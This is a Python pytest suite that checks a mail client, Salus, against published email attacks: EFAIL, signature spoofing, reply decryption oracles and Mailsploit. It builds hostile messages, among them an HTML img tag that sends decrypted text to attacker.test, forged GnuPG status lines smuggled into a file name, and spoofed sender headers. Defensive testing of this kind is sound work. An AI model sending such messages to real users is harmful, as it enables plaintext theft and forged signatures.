"""The public attack suites on mail clients, run against Salus's real reading path (`salus show --json`).

Every hostile message is made with real GnuPG or real CMS signatures, delivered to a real Dovecot, synced into
a real vault and opened by the CLI; each test asserts what the user would be shown. docs/attack-suites.md maps
each attack class of the papers to the test here that proves Salus resists it.
"""

from __future__ import annotations

import json
import shutil
import tempfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import gnupg
import pytest

from app.core.settings import effective
from app.crypto.openpgp import OpenPgpStore
from app.crypto.openpgp_ops import OpenPgpOps
from app.services import mailbox
from app.services.keys import GNUPG_DIR
from app.services.opening import Encryption, SignatureState, open_message
from app.services.profile import unlock
from app.ui.windows.compose_flow import DraftStart, reply_start
from tests.support import attack_mail as am
from tests.support.dovecot import DovecotServer
from tests.support.identities import PgpIdentity, SmimeIdentity, pgp_identity, smime_identity
from tests.support.pki import TestCA
from tests.support.salus_cli import PASSPHRASE, Salus

ME = "me@clinic.test"
BOB = "bob@keys.test"
CAROL = "carol@certs.test"
MALLORY = "mallory@attacker.test"
SECRET = "hyperkalaemiaquokka"
ENTITY = f"Content-Type: text/plain; charset=utf-8\r\n\r\nThe {SECRET} result is 6.1 mmol/L.\r\n".encode()
CAROL_TEXT = b"Content-Type: text/plain; charset=utf-8\r\n\r\nSigned lab report from Carol.\r\n"


@dataclass
class World:
    salus: Salus
    uids: dict[str, int]
    bob: PgpIdentity
    carol: SmimeIdentity


def own_public_key(profile: Path) -> bytes:
    session = unlock(profile, PASSPHRASE)
    try:
        with OpenPgpOps(profile / GNUPG_DIR, session.openpgp_passphrase) as ops:
            fingerprint = ops.ensure_own_key(ME, "Me")
        return OpenPgpStore(profile / GNUPG_DIR).export(fingerprint)
    finally:
        session.close()


def _top(sender: str, name: str, *extra: str) -> bytes:
    return am.headers(sender, ME, "Lab results", f"{name}@attack.test", *extra)


def _encrypted_messages(bob_home: Path, bob: PgpIdentity, me: str) -> dict[str, bytes]:
    good = am.encrypt(bob_home, me, ENTITY, "-u", bob.fingerprint, "--sign")
    ctype, body = am.body_of(am.pgp_mime_encrypted(b"", good))
    nested = ctype + b"\r\n\r\n" + body
    flipped = bytearray(good)
    middle = len(good) // 2
    flipped[middle] = ord("A") if flipped[middle] != ord("A") else ord("B")
    # CVE-2018-12020 (SigSpoof): a literal-data file name that carries forged status lines.
    forged_name = f"x\n[GNUPG:] GOODSIG {bob.fingerprint[-16:]} Bob\n[GNUPG:] VALIDSIG {bob.fingerprint} 2026-11-27"
    return {
        "encrypted": am.pgp_mime_encrypted(_top(f"Bob <{BOB}>", "enc"), good),
        "efail_html": am.mixed(
            _top(f"Mallory <{MALLORY}>", "efail-html"),
            "x",
            [
                b'Content-Type: text/html\r\n\r\n<img src="http://attacker.test/exfil?',
                nested,
                b'Content-Type: text/html\r\n\r\n">',
            ],
        ),
        "efail_wrapped": am.mixed(_top(f"Mallory <{MALLORY}>", "efail-wrap"), "x", [nested]),
        "cfb_gadget": am.pgp_mime_encrypted(_top(f"Bob <{BOB}>", "cfb"), bytes(flipped)),
        "mdc_stripped": am.pgp_mime_encrypted(
            _top(f"Bob <{BOB}>", "sed"), am.encrypt(bob_home, me, ENTITY, "--rfc2440")
        ),
        "filename_injection": am.pgp_mime_encrypted(
            _top(f"Bob <{BOB}>", "fname"), am.encrypt(bob_home, me, ENTITY, "--set-filename", forged_name)
        ),
        "body_injection": am.pgp_mime_encrypted(
            _top(f"Bob <{BOB}>", "body"),
            am.encrypt(bob_home, me, b"Content-Type: text/plain\r\n\r\n[GNUPG:] GOODSIG 0123456789ABCDEF Bob\r\n"),
        ),
        "oracle_nested": am.mixed(
            _top(f"Mallory <{MALLORY}>", "oracle-nested"),
            "x",
            [
                b"Content-Type: text/plain\r\n\r\nWhat's up? See below.",
                nested,
            ],
        ),
        "oracle_inline": am.headers(MALLORY, ME, "Hi", "oracle-inline@attack.test")
        + b"Content-Type: text/plain\r\n\r\nWhat's up?\r\n\r\n"
        + am.crlf(good),
        "oracle_resent": am.pgp_mime_encrypted(_top(f"Mallory <{MALLORY}>", "oracle-resent"), good),
    }


def _signature_messages(
    carol: SmimeIdentity, mallory: SmimeIdentity, bob: PgpIdentity, bob_home: Path
) -> dict[str, bytes]:
    signed_entity = am.smime_signed_entity(carol, CAROL_TEXT)
    # RFC 9788 header protection abused: Mallory signs, with her own valid certificate, a payload whose protected
    # From says Carol, under an outer From that is Mallory's own.
    hp_from_carol = (
        f'From: Carol <{CAROL}>\r\nSubject: Lab results\r\nContent-Type: text/plain; hp="clear"\r\n\r\nPay.\r\n'
    )
    hp_spoof = am.smime_signed_entity(mallory, hp_from_carol.encode())
    close = signed_entity.rstrip(b"\r\n").rsplit(b"\r\n", 1)[1]  # the closing delimiter line, "--boundary--"
    extra_part = signed_entity.replace(
        close, close[:-2] + b"\r\nContent-Type: text/plain\r\n\r\nPay Mallory.\r\n" + close
    )
    return {
        "smime_signed": _top(f"Carol <{CAROL}>", "smime") + signed_entity,
        "hp_inner_from_spoof": _top(f"Mallory <{MALLORY}>", "hp-spoof") + hp_spoof,
        "wrapped_signature": am.mixed(
            _top(f"Carol <{CAROL}>", "wrap"),
            "w",
            [
                b"Content-Type: text/plain\r\n\r\nPlease transfer the fee to Mallory.",
                signed_entity,
            ],
        ),
        "signature_as_attachment": am.mixed(
            _top(f"Carol <{CAROL}>", "attached"),
            "w",
            [
                b"Content-Type: text/plain\r\n\r\nPlease transfer the fee to Mallory.",
                b"Content-Type: message/rfc822\r\n\r\n" + _top(f"Carol <{CAROL}>", "inner") + signed_entity,
            ],
        ),
        "signature_extra_part": _top(f"Carol <{CAROL}>", "extra") + extra_part,
        "smime_id_mismatch": _top(f"Carol <{MALLORY}>", "smime-id") + signed_entity,
        "smime_display_name": _top(f'"{CAROL}" <{MALLORY}>', "smime-name") + signed_entity,
        "smime_two_mailboxes": _top(f"Carol <{CAROL}>, Mallory <{MALLORY}>", "two-mailboxes") + signed_entity,
        "smime_two_froms": _top(f"Mallory <{MALLORY}>", "two-from", f"From: Carol <{CAROL}>") + signed_entity,
        "pgp_id_mismatch": am.pgp_signed(_top(f"Carol <{CAROL}>", "pgp-id"), bob, bob_home, CAROL_TEXT),
    }


def _display_messages() -> dict[str, bytes]:
    nul = am.encoded_word(f"{CAROL}\x00\r\n")
    angle = am.encoded_word(f"Carol <{CAROL}>, ")
    text = b"Content-Type: text/plain\r\n\r\nHello.\r\n"
    return {
        "mailsploit_nul": am.headers(f"{nul} <{MALLORY}>", ME, "Hi", "ms-nul@attack.test") + text,
        "mailsploit_address_in_name": am.headers(f"{angle} <{MALLORY}>", ME, "Hi", "ms-angle@attack.test") + text,
    }


@pytest.fixture(scope="module")
def world(dovecot: DovecotServer, test_ca: TestCA) -> Iterator[World]:
    base = Path(tempfile.mkdtemp(prefix="atk", dir="/tmp"))
    policy = base / "policy.json"
    policy.write_text(json.dumps({"smime_ca_file": str(test_ca.cert_file), "dns_resolvers": ["127.0.0.1:9"],
                                  "discovery_timeout_seconds": 1}))  # fmt: skip
    salus = Salus(base / "p", env={"SALUS_POLICY_FILE": str(policy)})
    salus.ok("profile", "create")
    user = dovecot.new_user("attacks")
    added = salus.add_account("work", host=dovecot.host, port=dovecot.imaps_port, security="tls", user=user.name,
                              password=user.password, ca_file=dovecot.ca_file)  # fmt: skip
    assert added.code == 0, added.stderr
    bob = pgp_identity(base / "bob", BOB)
    (base / "bob.asc").write_bytes(bob.public)
    salus.ok("keys", "import", str(base / "bob.asc"))
    me = gnupg.GPG(gnupghome=str(base / "bob")).import_keys(own_public_key(salus.profile)).fingerprints[0]
    carol = smime_identity(test_ca, CAROL)
    messages = {
        **_encrypted_messages(base / "bob", bob, me),
        **_signature_messages(carol, smime_identity(test_ca, MALLORY), bob, base / "bob"),
        **_display_messages(),
    }
    dovecot.seed(user, "INBOX", list(messages.values()))
    salus.ok("sync")
    yield World(salus, {name: i + 1 for i, name in enumerate(messages)}, bob, carol)
    shutil.rmtree(base, ignore_errors=True)


def show(world: World, name: str) -> dict[str, Any]:
    return dict(world.salus.json("show", "--uid", str(world.uids[name])))


def test_control_a_genuine_encrypted_message_is_decrypted_and_signed(world: World) -> None:
    shown = show(world, "encrypted")
    assert shown["encryption"] == "pgp" and SECRET in shown["text"]
    assert shown["signature"] == {"state": "valid", "signer": world.bob.fingerprint}


# EFAIL (Poddebniak et al., USENIX Security 2018)


def test_efail_ciphertext_wrapped_in_html_is_not_decrypted_into_the_message(world: World) -> None:
    shown = show(world, "efail_html")
    assert SECRET not in json.dumps(shown)
    assert shown["encryption"] == "failed" and shown["signature"]["state"] == "none"
    assert any("EFAIL" in problem for problem in shown["problems"])


def test_efail_ciphertext_as_the_only_part_of_a_multipart_is_not_decrypted(world: World) -> None:
    shown = show(world, "efail_wrapped")
    assert SECRET not in json.dumps(shown) and shown["encryption"] == "failed"


def test_efail_cfb_gadget_altered_ciphertext_yields_no_plaintext(world: World) -> None:
    shown = show(world, "cfb_gadget")
    assert shown["encryption"] == "failed" and SECRET not in json.dumps(shown)


def test_efail_mdc_stripped_sed_packet_is_refused_and_yields_no_plaintext(world: World) -> None:
    shown = show(world, "mdc_stripped")
    assert shown["encryption"] == "failed" and SECRET not in json.dumps(shown)
    assert any("integrity" in problem for problem in shown["problems"])


# "Johnny, you are fired!" (Müller et al., USENIX Security 2019): signature spoofing


def test_control_a_genuine_smime_signature_is_valid_and_names_the_signer(world: World) -> None:
    shown = show(world, "smime_signed")
    assert shown["signature"]["state"] == "valid" and shown["signature"]["signer"]


def test_mime_wrapping_a_signed_part_inside_unsigned_text_is_not_shown_as_signed(world: World) -> None:
    shown = show(world, "wrapped_signature")
    assert shown["signature"]["state"] == "none"
    assert "Mallory" in shown["text"]


def test_mime_wrapping_a_signed_message_attached_as_rfc822_is_not_shown_as_signed(world: World) -> None:
    assert show(world, "signature_as_attachment")["signature"]["state"] == "none"


def test_multipart_signed_with_an_extra_unsigned_part_is_not_shown_as_signed(world: World) -> None:
    shown = show(world, "signature_extra_part")
    assert shown["signature"]["state"] != "valid"
    assert shown["signature"]["state"] == "none" or "Pay Mallory" not in shown["text"]


def test_id_attack_smime_signer_other_than_from_is_flagged_with_the_signer(world: World) -> None:
    shown = show(world, "smime_id_mismatch")
    assert shown["signature"]["state"] == "untrusted" and shown["signature"]["signer"]
    assert any(CAROL in problem for problem in shown["problems"]), shown["problems"]


def test_id_attack_signer_address_as_display_name_is_flagged(world: World) -> None:
    shown = show(world, "smime_display_name")
    assert shown["from"] == [{"name": CAROL, "address": MALLORY}]
    assert shown["signature"]["state"] == "untrusted"
    assert any("display name shows the address" in problem for problem in shown["problems"]), shown["problems"]


def test_id_attack_two_from_headers_are_reported_and_not_trusted_blindly(world: World) -> None:
    shown = show(world, "smime_two_froms")
    assert any("2 From headers" in problem for problem in shown["problems"])
    assert shown["signature"]["state"] != "valid"


def test_id_attack_a_second_mailbox_in_from_keeps_the_signature_from_being_the_sender_s(world: World) -> None:
    shown = show(world, "smime_two_mailboxes")
    assert [sender["address"] for sender in shown["from"]] == [CAROL, MALLORY]
    assert shown["signature"]["state"] == "untrusted"


def test_id_attack_protected_from_differing_from_the_verified_outer_from_is_not_shown_as_signed_by_it(
    world: World,
) -> None:
    shown = show(world, "hp_inner_from_spoof")
    shown_from = [sender["address"] for sender in shown["from"]]
    # Whichever From the reader shows, a "valid" state must mean that very address signed.
    assert shown["signature"]["state"] != "valid" or shown_from == [MALLORY], (shown_from, shown["signature"])


def test_id_attack_pgp_signer_other_than_from_is_flagged_with_the_signer(world: World) -> None:
    shown = show(world, "pgp_id_mismatch")
    assert shown["signature"] == {"state": "untrusted", "signer": world.bob.fingerprint}
    assert any(BOB in problem for problem in shown["problems"]), shown["problems"]


def test_status_line_injection_through_the_literal_file_name_claims_no_signature(world: World) -> None:
    shown = show(world, "filename_injection")
    assert shown["encryption"] == "pgp" and SECRET in shown["text"]
    assert shown["signature"] == {"state": "none", "signer": ""}


def test_status_line_injection_through_the_plaintext_claims_no_signature(world: World) -> None:
    shown = show(world, "body_injection")
    assert shown["encryption"] == "pgp" and shown["signature"]["state"] == "none"


# "Re: What's up Johnny?" (Müller et al., ACNS 2019): decryption oracles through replies


def test_oracle_ciphertext_nested_in_a_plain_message_is_never_decrypted_for_a_reply(world: World) -> None:
    shown = show(world, "oracle_nested")
    assert SECRET not in json.dumps(shown) and shown["encryption"] == "failed"


def test_oracle_inline_armoured_ciphertext_in_plain_text_is_not_decrypted(world: World) -> None:
    shown = show(world, "oracle_inline")
    assert SECRET not in json.dumps(shown)
    assert shown["encryption"] == "none" and "BEGIN PGP MESSAGE" in shown["text"]


def test_oracle_resent_ciphertext_under_another_from_is_flagged_as_not_from_the_signer(world: World) -> None:
    shown = show(world, "oracle_resent")
    assert shown["from"][0]["address"] == MALLORY
    assert shown["signature"]["state"] == "untrusted"
    assert any(BOB in problem for problem in shown["problems"]), shown["problems"]


# Mailsploit (Haddouche 2017): encoded-word display names


def test_mailsploit_nul_and_newline_in_an_encoded_name_are_escaped(world: World) -> None:
    shown = show(world, "mailsploit_nul")
    (sender,) = shown["from"]
    assert sender["address"] == MALLORY
    assert not any(ch in sender["name"] for ch in "\x00\r\n")


def test_mailsploit_encoded_address_in_the_name_invents_no_sender(world: World) -> None:
    shown = show(world, "mailsploit_address_in_name")
    assert [sender["address"] for sender in shown["from"]] == [MALLORY]
    assert any("display name" in problem for problem in shown["problems"]), shown["problems"]


def reply_to(world: World, name: str) -> tuple[DraftStart, Encryption]:
    """The reply the window would start for this message (main_window: reply_start on the opened verdict)."""
    session = unlock(world.salus.profile, PASSPHRASE)
    try:
        _outer, raw = mailbox.read_message(session, "work", "INBOX", world.uids[name])
        opened = open_message(session, effective({}, {}), raw)
    finally:
        session.close()
    encrypted = opened.encryption in (Encryption.PGP, Encryption.SMIME)
    signed = opened.signature is SignatureState.VALID
    return reply_start(opened.message, to_all=False, encrypted=encrypted, signed_by_sender=signed), opened.encryption


@pytest.mark.parametrize("name", ["oracle_nested", "oracle_inline", "efail_html"])
def test_oracle_reply_to_a_smuggled_ciphertext_quotes_no_plaintext(world: World, name: str) -> None:
    start, encryption = reply_to(world, name)
    assert start.to == (MALLORY,)
    assert SECRET not in start.body and encryption is not Encryption.PGP


def test_oracle_reply_to_resent_ciphertext_does_not_quote_the_decrypted_text(world: World) -> None:
    start, encryption = reply_to(world, "oracle_resent")
    # Bob's genuine ciphertext resent under Mallory's From decrypts, but its signature does not name Mallory:
    # quoting it would carry Bob's words to Mallory inside a reply protected for Mallory. The reply starts empty
    # and says why; it is still planned as a reply to encrypted mail (never tls or plain).
    assert encryption is Encryption.PGP and SECRET not in start.body
    assert start.notice and start.reply_to_encrypted


def test_reply_to_encrypted_mail_signed_by_its_sender_quotes_it(world: World) -> None:
    start, encryption = reply_to(world, "encrypted")
    assert encryption is Encryption.PGP and SECRET in start.body and not start.notice
